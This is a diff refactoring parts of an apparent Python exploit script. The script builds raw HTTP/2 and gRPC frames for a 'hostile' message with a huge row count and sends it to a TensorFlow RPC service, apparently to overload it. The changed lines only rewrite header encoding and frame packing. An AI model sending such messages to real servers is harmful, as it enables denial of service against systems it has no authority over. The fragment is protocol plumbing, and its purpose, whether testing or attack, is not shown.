@@ -18,20 +18,16 @@ def hostile_message(rows: int = 2**40) -> bytes:
     return PREFACE + headers() + data_frames(field(1, b"enqueue") + field(2, tensor))
 
 
-def headers(path: bytes = b"/tensorflow.rpc.RpcService/Call") -> bytes:
+def headers() -> bytes:
     """Return the frame that begins a call."""
-    names = (
-        (b":method", b"POST"),
-        (b":scheme", b"http"),
-        (b":path", path),
-        (b":authority", b"x"),
-        (b"content-type", b"application/grpc"),
-        (b"te", b"trailers"),
-    )
-    encoded = b"".join(
-        b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value for name, value in names
-    )
-    return _frame(1, 4, 1, encoded)
+    fields = {
+        **{":method": "POST", ":scheme": "http", ":path": "/tensorflow.rpc.RpcService/Call"},
+        **{":authority": "x", "content-type": "application/grpc", "te": "trailers"},
+    }
+    parts = [text.encode() for field in fields.items() for text in field]
+    encoded = [bytes([len(part)]) + part for part in parts]
+    pairs = zip(encoded[::2], encoded[1::2], strict=True)
+    return _frame(1, 4, 1, b"".join(b"\0" + name + value for name, value in pairs))
 
 
 def data_frames(call: bytes) -> bytes:
@@ -53,12 +49,8 @@ def send_hostile(address: str) -> socket.socket:
 
 
 def _frame(kind: int, flags: int, stream: int, content: bytes = b"") -> bytes:
-    return (
-        struct.pack(">I", len(content))[1:]
-        + bytes([kind, flags])
-        + struct.pack(">I", stream)
-        + content
-    )
+    size = struct.pack(">I", len(content))[1:]
+    return size + bytes([kind, flags]) + struct.pack(">I", stream) + content
 
 
 def field(number: int, content: bytes) -> bytes:
